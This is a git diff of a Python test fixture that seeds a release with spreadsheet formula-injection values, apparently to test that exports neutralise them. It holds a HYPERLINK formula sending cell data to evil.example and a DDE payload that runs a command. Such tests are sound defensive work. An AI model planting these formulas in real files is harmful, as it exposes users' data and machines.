@@ -16,7 +16,7 @@ import pandas as pd
 import pytest
 
 from tests import dump
-from tests.builders import REPO, app_test
+from tests.builders import REPO, app_test, every_document_run
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
 EVIL_TAGS = ["+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
@@ -57,23 +57,14 @@ def evil_release(cache) -> Path:
     and tagged with formulas."""
     from coreb_core.data.ingest import import_release
     from coreb_core.data.sources import read_local
-    from coreb_core.data.store import Store
-    from coreb_core.runs.folders import new_run_id, tag_run, update_run, write_run
-    from coreb_core.runs.hits import hits_from_lists
+    from coreb_core.runs.folders import tag_run, update_run
 
     rows = dump.rows()
     rows["text2code_queries"][1]["query"] = EVIL_QUERY
     for doc in rows["code_corpus"]:
         doc["model"] = EVIL_MODEL
     import_release(read_local(dump.write_parquet_folder(cache.parent / "evil-src", rows))[2], "tiny", cache)
-    with Store("tiny", cache) as store:
-        task_of = dict(store.sql("SELECT query_id, task FROM queries").fetchall())
-        code = [r[0] for r in store.sql("SELECT code_id FROM code_corpus ORDER BY code_id").fetchall()]
-        text = [r[0] for r in store.sql("SELECT text_id FROM text_corpus ORDER BY text_id").fetchall()]
-    lists = {q: [(d, 1.0 - i / 100) for i, d in enumerate(text if t == "c2t" else code)] for q, t in task_of.items()}
-    run_id = new_run_id("evil_model", "tiny")
-    write_run(hits_from_lists(task_of, lists, "test"), {"run_id": run_id, "release": "tiny", "model": "evil_model",
-                                                         "created": "2026-01-01T00:00:00", "kind": "imported"}, cache)
+    run_id = every_document_run(cache, "tiny", "evil_model")
     update_run(run_id, EVIL_NAME, root=cache)
     tag_run(run_id, EVIL_TAGS, root=cache)
     return cache
